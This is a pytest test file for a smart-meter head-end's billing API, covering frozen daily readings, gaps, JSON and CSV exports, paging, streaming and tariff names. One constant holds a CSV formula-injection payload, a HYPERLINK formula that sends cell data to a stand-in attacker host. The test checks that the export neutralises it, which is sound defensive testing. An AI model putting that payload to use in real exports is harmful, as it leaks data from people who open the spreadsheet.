"""Billing reads through the API: stored frozen values, explicit gaps, JSON and CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import MutableMapping
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from headend.api import create_app
from headend.api.models import BillingOut, DailyOut, IntervalOut
from headend.api.routes import billing as routes_billing
from storage.influxql import InfluxQLBillingSource
from storage.records import Quality, Reading, ReadingKind
from tests.headend.api.billing_fleet import (
    NEVER_READ,
    SIMULATED,
    START,
    TARIFF_ENERGY,
    billing_rig,
    stored_reading,
)
from tests.headend.api.fleet import READER, TOKENS, LiveFleet
from tests.support.ports import free_tcp_port

DAY_1 = date(2026, 3, 8)
DAY_2 = date(2026, 3, 9)


async def store_frozen(fleet: LiveFleet) -> None:
    """m1 has a frozen value for DAY_1 only (freeze time is local midnight, 16:00 UTC before)."""
    frozen = Reading(
        "m1",
        "energy_active_import_total",
        1200.25,
        "kWh",
        datetime(2026, 3, 7, 16, 0, tzinfo=UTC),
        ReadingKind.FROZEN,
        Quality.BACKFILLED,
        tags={"transformer": "T1", "channel": "bus-1"},
    )
    await fleet.store.write([frozen])


async def test_billing_json_has_the_value_and_the_gap(
    client: httpx.AsyncClient, fleet: LiveFleet
) -> None:
    await store_frozen(fleet)
    params = {"meter": "m1", "start": DAY_1.isoformat(), "end": DAY_2.isoformat()}
    body = (await client.get("/api/billing", headers=READER, params=params)).json()
    daily = {row["day"]: row for row in body["daily"]}
    assert daily[DAY_1.isoformat()]["value"] == pytest.approx(1200.25)
    assert daily[DAY_1.isoformat()]["quality"] == "backfilled"
    assert daily[DAY_2.isoformat()]["state"] == "not_collected"
    assert body["not_collected"] == 1


async def test_billing_csv_by_transformer(client: httpx.AsyncClient, fleet: LiveFleet) -> None:
    await store_frozen(fleet)
    params = {"transformer": "T1", "start": DAY_1.isoformat(), "end": DAY_1.isoformat()}
    for path, extra in (("/api/billing", {"format": "csv"}), ("/api/billing.csv", {})):
        response = await client.get(path, headers=READER, params={**params, **extra})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(response.text)))
        m1_rows = [r for r in rows if r["meter"] == "m1" and r["record"] == "daily"]
        assert [(r["day"], float(r["value"])) for r in m1_rows] == [(DAY_1.isoformat(), 1200.25)]


PERIOD = {"start": "2026-03-08", "end": "2026-03-09"}


@pytest.mark.parametrize(
    ("params", "field"),
    [
        (PERIOD, "meter"),
        ({"meter": "m1", "transformer": "T1", **PERIOD}, "meter"),
        ({"meter": "m1", "start": "2026-03-09", "end": "2026-03-08"}, "end"),
        ({"meter": "m1", "start": "2026-02-30", "end": "2026-03-08"}, "start"),
        ({"meter": "m1", "start": "2026-03-08"}, "end"),
        ({"meter": "m1", "start": "2025-03-08", "end": "2026-03-09"}, "end"),  # 367 days
        ({"transformer": "T9", **PERIOD}, "transformer"),
        ({"meter": "m1", **PERIOD, "format": "xml"}, "format"),
    ],
)
async def test_bad_billing_requests_are_422_naming_the_field(
    client: httpx.AsyncClient, params: dict[str, str], field: str
) -> None:
    response = await client.get("/api/billing", headers=READER, params=params)
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["query", field]


async def test_billing_of_an_unknown_meter_is_404(client: httpx.AsyncClient) -> None:
    params = {"meter": "ghost", "start": "2026-03-08", "end": "2026-03-08"}
    assert (await client.get("/api/billing", headers=READER, params=params)).status_code == 404


# -- through the real producers: backfill on simulated meters, the embedded store, HTTP --------

BILLING_DAYS = (date(2026, 3, 8), date(2026, 3, 9), date(2026, 3, 10))
"""The backfill window of the billing rig (3 days, today 2026-03-10 in Shanghai)."""


async def test_backfilled_frozen_values_and_interval_registers_in_one_request(
    tmp_path: Path,
) -> None:
    async with billing_rig(tmp_path) as rig:
        await rig.engine.backfill_passes.run_pass()
        interval = await stored_reading(rig.engine, "m1", "energy_active_import_total")
        params = {
            "meter": list(SIMULATED),
            "start": BILLING_DAYS[0].isoformat(),
            "end": BILLING_DAYS[-1].isoformat(),
        }
        response = await rig.http.get("/api/billing", headers=READER, params=params)
        assert response.status_code == 200, response.text
        body = response.json()
    assert body["not_collected"] == 0
    daily = {(row["meter"], row["day"]): row for row in body["daily"]}
    for meter_id in SIMULATED:
        for day in BILLING_DAYS:
            row = daily[(meter_id, day.isoformat())]
            assert row["state"] == "collected"
            assert row["quantity"] == "energy_active_import_total"
            truth = rig.sources[meter_id].frozen_energy(day)
            assert truth is not None
            assert row["value"] == pytest.approx(round(truth, 2))
            assert row["quality"] == ("actual" if day == BILLING_DAYS[-1] else "backfilled")
    stored = [
        (row["meter"], row["quantity"], datetime.fromisoformat(row["timestamp"]), row["value"])
        for row in body["intervals"]
    ]
    assert (
        "m1",
        "energy_active_import_total",
        interval.timestamp,
        interval.value,
    ) in stored


async def test_transformer_lists_every_registered_meter(tmp_path: Path) -> None:
    async with billing_rig(tmp_path) as rig:
        await rig.engine.backfill_passes.run_pass()
        await rig.engine.writer.flush()
        params = {"transformer": "T1", "start": "2026-03-09", "end": "2026-03-10"}
        body = (await rig.http.get("/api/billing", headers=READER, params=params)).json()
        empty = (
            await rig.http.get(
                "/api/billing", headers=READER, params={**params, "transformer": "T2"}
            )
        ).json()
    assert body["meters"] == [*SIMULATED, NEVER_READ]
    states = {(row["meter"], row["day"]): row["state"] for row in body["daily"]}
    assert states[(NEVER_READ, "2026-03-09")] == "not_collected"
    assert states[(NEVER_READ, "2026-03-10")] == "not_collected"
    assert states[("m1", "2026-03-10")] == "collected"
    assert body["not_collected"] == 2
    assert empty["meters"] == []
    assert empty["daily"] == []


async def test_history_accepts_every_quantity_the_meter_lists(tmp_path: Path) -> None:
    async with billing_rig(tmp_path) as rig:
        await rig.engine.backfill_passes.run_pass()
        await stored_reading(rig.engine, "m1", "energy_active_import_total")
        await rig.engine.clocks.check_clock("m1")  # the head-end's own clock_drift reading
        await rig.engine.writer.flush()
        meter = (await rig.http.get("/api/meters/m1", headers=READER)).json()
        listed = {(r["quantity"], r["kind"]) for r in meter["latest"]}
        answers = {}
        for quantity, kind in sorted(listed):
            response = await rig.http.get(
                "/api/meters/m1/readings",
                headers=READER,
                params={
                    "quantity": quantity,
                    "kind": kind,
                    "start": (START - timedelta(days=4)).isoformat(),
                    "end": (START + timedelta(days=1)).isoformat(),
                },
            )
            answers[quantity] = (response.status_code, len(response.json().get("points", [])))
    assert ("clock_drift", "state") in listed
    assert ("energy_active_import_total", "energy") in listed  # the live register, not a freeze
    assert all(answer[0] == 200 and answer[1] > 0 for answer in answers.values()), answers


# -- the work one request may ask for is capped; pages and streams keep the loop free ----------


async def test_billing_over_the_cap_is_refused_naming_the_limit_and_pages_fit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(routes_billing, "MAX_METER_DAYS", 5)
    period = {"start": "2026-03-08", "end": "2026-03-10"}  # 3 days
    async with billing_rig(tmp_path) as rig:
        await rig.engine.backfill_passes.run_pass()
        await rig.engine.writer.flush()
        whole = await rig.http.get(
            "/api/billing", headers=READER, params={"transformer": "T1", **period}
        )
        too_big_page = await rig.http.get(
            "/api/billing", headers=READER, params={"transformer": "T1", "limit": 2, **period}
        )
        pages = []
        cursor: str | None = None
        while True:
            params: dict[str, str | int] = {"transformer": "T1", "limit": 1, **period}
            if cursor is not None:
                params["cursor"] = cursor
            response = await rig.http.get("/api/billing", headers=READER, params=params)
            assert response.status_code == 200, response.text
            pages.append(response.json())
            cursor = response.json()["next_cursor"]
            assert response.headers.get("x-next-cursor") == cursor
            if cursor is None:
                break
    assert whole.status_code == 422
    error = whole.json()["detail"][0]
    assert error["loc"] == ["query", "transformer"]
    assert "3 meters x 3 days = 9 meter-days; at most 5 meter-days" in error["msg"]
    assert "limit=1" in error["msg"]
    assert too_big_page.status_code == 422
    assert too_big_page.json()["detail"][0]["loc"] == ["query", "limit"]
    assert [page["meters"] for page in pages] == [["m1"], ["m2"], [NEVER_READ]]
    assert [{row["meter"] for row in page["daily"]} for page in pages] == [
        {"m1"},
        {"m2"},
        {NEVER_READ},
    ]
    assert [page["not_collected"] for page in pages] == [0, 0, 3]


def asgi_get(path: str, params: dict[str, object]) -> dict[str, object]:
    """An ASGI scope for GET ``path`` as a reader: to watch a response arrive piece by piece."""
    return {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": urlencode(params, doseq=True).encode(),
        "headers": [(b"host", b"headend"), (b"authorization", READER["Authorization"].encode())],
        "client": ("127.0.0.1", 40000),
        "server": ("headend", 80),
    }


async def test_a_year_of_billing_streams_while_requests_and_collection_go_on(
    tmp_path: Path,
) -> None:
    """The large response is held after its first piece; meanwhile a cheap request is answered
    and collection stores a reading. Built whole (before), the first piece was the last."""
    period = {"start": "2025-03-10", "end": "2026-03-10"}  # 366 days, one meter per chunk
    async with billing_rig(tmp_path) as rig:
        await rig.engine.backfill_passes.run_pass()
        await stored_reading(rig.engine, "m1", "energy_active_import_total")
        first_piece = asyncio.Event()
        resume = asyncio.Event()
        pieces: list[bytes] = []
        statuses: list[int] = []
        never: asyncio.Event = asyncio.Event()
        requested = False

        async def receive() -> dict[str, object]:
            nonlocal requested
            if not requested:
                requested = True
                return {"type": "http.request", "body": b"", "more_body": False}
            await never.wait()  # the client stays connected
            return {"type": "http.disconnect"}

        async def send(message: MutableMapping[str, Any]) -> None:
            if message["type"] == "http.response.start":
                statuses.append(message["status"])
            if message["type"] == "http.response.body":
                pieces.append(message.get("body", b""))
                if len(pieces) == 1:
                    first_piece.set()
                    await resume.wait()

        scope = asgi_get("/api/billing", {"transformer": "T1", **period})
        large = asyncio.create_task(rig.app(scope, receive, send))
        await first_piece.wait()
        cheap = await rig.http.get("/api/meters/m1", headers=READER)
        collected = await stored_reading(rig.engine, "m2", "energy_active_import_total")
        large_was_running = not large.done()
        resume.set()
        await large
        history = await rig.http.get(
            "/api/meters/m2/readings",
            headers=READER,
            params={
                "quantity": "energy_active_import_total",
                "kind": "energy",
                "start": collected.timestamp.isoformat(),
                "end": (collected.timestamp + timedelta(seconds=1)).isoformat(),
            },
        )
    assert cheap.status_code == 200
    assert large_was_running
    assert [point["value"] for point in history.json()["points"]] == [collected.value]
    assert statuses == [200]
    assert len(pieces) > 3  # streamed in chunks, not built whole
    body = json.loads(b"".join(pieces))
    assert len(body["daily"]) == 3 * 366
    assert {row["meter"] for row in body["daily"]} == {"m1", "m2", NEVER_READ}
    assert body["not_collected"] == 3 * 366 - 2 * 3  # two meters, three backfilled days each


# -- CSV: no formula injection, and what a billing clerk files by ------------------------------

HOSTILE_BUILDING = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


async def test_billing_csv_neutralises_formulas_and_carries_address_household_and_times(
    tmp_path: Path,
) -> None:
    async with billing_rig(tmp_path, building=HOSTILE_BUILDING) as rig:
        await rig.engine.backfill_passes.run_pass()
        await stored_reading(rig.engine, "m1", "energy_active_import_total")
        response = await rig.http.get(
            "/api/billing.csv",
            headers=READER,
            params={"transformer": "T1", "start": "2026-03-10", "end": "2026-03-10"},
        )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {row["building"] for row in rows} == {"'" + HOSTILE_BUILDING}
    for row in rows:
        for column, cell in row.items():
            if column != "value":  # numbers we wrote from floats
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    daily = {row["meter"]: row for row in rows if row["record"] == "daily"}
    m1 = daily["m1"]
    assert (m1["address"], m1["household"], m1["transformer"]) == ("000000000001", "flat-m1", "T1")
    assert m1["timestamp_local"] == "2026-03-10T00:00:00+08:00"
    assert m1["timestamp_utc"] == "2026-03-09T16:00:00+00:00"
    assert daily[NEVER_READ]["state"] == "not_collected"
    assert daily[NEVER_READ]["address"] == "000000000099"
    intervals = [row for row in rows if row["record"] == "interval" and row["meter"] == "m1"]
    assert intervals
    local = datetime.fromisoformat(intervals[0]["timestamp_local"])
    assert local.utcoffset() == timedelta(hours=8)
    assert local == datetime.fromisoformat(intervals[0]["timestamp_utc"])


CSV_HEADER_BEFORE_TARIFFS = [
    "record", "meter", "address", "household", "building", "transformer", "quantity", "day",
    "timestamp_local", "timestamp_utc", "value", "unit", "quality", "state", "reason",
]  # fmt: skip


async def test_billing_names_each_tariff_as_the_site_configured_it(tmp_path: Path) -> None:
    """Tariffs read from the simulated meters come back in the CSV and the JSON under the
    site's names (``[site] tariff_names``); in the CSV after the columns files already read
    by position."""
    site_names = {"1": "peak", "2": "flat", "3": "valley", "4": "deep_valley"}
    tariffs = tuple(TARIFF_ENERGY)
    params = {
        "meter": "m1",
        "start": "2026-03-10",
        "end": "2026-03-10",
        "quantity": ["energy_active_import_total", *tariffs],
    }
    async with billing_rig(
        tmp_path, quantities=("energy_active_import_total", *tariffs), tariff_names=site_names
    ) as rig:
        await rig.engine.backfill_passes.run_pass()
        await stored_reading(rig.engine, "m1", tariffs[-1])
        response = await rig.http.get("/api/billing.csv", headers=READER, params=params)
        body = (await rig.http.get("/api/billing", headers=READER, params=params)).json()
    assert response.status_code == 200, response.text
    header, *cells = list(csv.reader(io.StringIO(response.text)))
    assert header == [*CSV_HEADER_BEFORE_TARIFFS, "tariff"]
    rows = [dict(zip(header, row, strict=True)) for row in cells]
    for row in rows:
        number = row["quantity"].removeprefix("energy_active_import_t")
        assert row["tariff"] == site_names.get(number, ""), row
    intervals = {
        row["quantity"]: float(row["value"])
        for row in rows
        if row["record"] == "interval" and row["value"]
    }
    assert {q: intervals.get(q) for q in tariffs} == TARIFF_ENERGY
    assert "energy_active_import_total" in intervals
    json_rows = [*body["daily"], *body["intervals"]]
    assert {r["quantity"] for r in body["intervals"]} == {"energy_active_import_total", *tariffs}
    for json_row in json_rows:
        number = json_row["quantity"].removeprefix("energy_active_import_t")
        assert json_row["tariff"] == site_names.get(number), json_row


async def test_history_of_frozen_values_includes_the_legacy_stored_name(
    client: httpx.AsyncClient, fleet: LiveFleet
) -> None:
    """A store written before the one naming scheme holds ``frozen_energy_active_import_total``."""
    freeze = datetime(2026, 3, 9, 16, 0, tzinfo=UTC)
    legacy = Reading(
        "m1",
        "frozen_energy_active_import_total",
        1300.5,
        "kWh",
        freeze,
        ReadingKind.FROZEN,
        Quality.BACKFILLED,
    )
    await fleet.store.write([legacy])
    response = await client.get(
        "/api/meters/m1/readings",
        headers=READER,
        params={
            "quantity": "energy_active_import_total",
            "kind": "frozen",
            "start": (freeze - timedelta(hours=1)).isoformat(),
            "end": (freeze + timedelta(hours=1)).isoformat(),
        },
    )
    assert response.status_code == 200
    assert [point["value"] for point in response.json()["points"]] == [1300.5]


async def test_a_freeze_read_after_the_live_register_does_not_hide_it(tmp_path: Path) -> None:
    """Frozen values share the register's name now; the meter view must keep the live value."""
    async with billing_rig(tmp_path) as rig:
        live = await stored_reading(rig.engine, "m1", "energy_active_import_total")
        frozen = await rig.engine.backfill_passes.run_pass()
        meter = (await rig.http.get("/api/meters/m1", headers=READER)).json()
    assert any(r.meter == "m1" and r.kind is ReadingKind.FROZEN for r in frozen)
    [energy] = [r for r in meter["latest"] if r["quantity"] == "energy_active_import_total"]
    assert energy["kind"] == "energy"
    assert datetime.fromisoformat(energy["timestamp"]) >= live.timestamp


@pytest.mark.parametrize("path", ["/api/billing", "/api/billing.csv"])
async def test_billing_from_a_store_that_is_down_is_503_not_a_cut_off_200(
    fleet: LiveFleet, path: str
) -> None:
    """Streamed answers start only after the store answered the first query."""
    down = InfluxQLBillingSource(f"http://127.0.0.1:{free_tcp_port()}", database="billing")
    app = create_app(fleet.engine, tokens=TOKENS, store=down, dashboard_dir=None)
    try:
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://headend"
        ) as http:
            by_meter = await http.get(path, headers=READER, params={"meter": "m1", **PERIOD})
            by_transformer = await http.get(
                path, headers=READER, params={"transformer": "T1", **PERIOD}
            )
    finally:
        await down.aclose()
    for response in (by_meter, by_transformer):
        assert response.status_code == 503
        assert "127.0.0.1" in response.json()["detail"]


async def test_streamed_billing_json_is_the_documented_billing_out(tmp_path: Path) -> None:
    """The stream writes its JSON by hand; it must stay the shape OpenAPI promises."""
    async with billing_rig(tmp_path) as rig:
        await rig.engine.backfill_passes.run_pass()
        await stored_reading(rig.engine, "m1", "energy_active_import_total")
        today = START.astimezone(rig.engine.tz).date()
        params = {"transformer": "T1", "start": str(today - timedelta(days=2)), "end": str(today)}
        body = (await rig.http.get("/api/billing", headers=READER, params=params)).json()
    assert body["daily"]
    assert body["intervals"]
    BillingOut.model_validate(body)  # types and enumerations
    assert set(body) == set(BillingOut.model_fields)
    assert all(set(row) == set(DailyOut.model_fields) for row in body["daily"])
    assert all(set(row) == set(IntervalOut.model_fields) for row in body["intervals"])
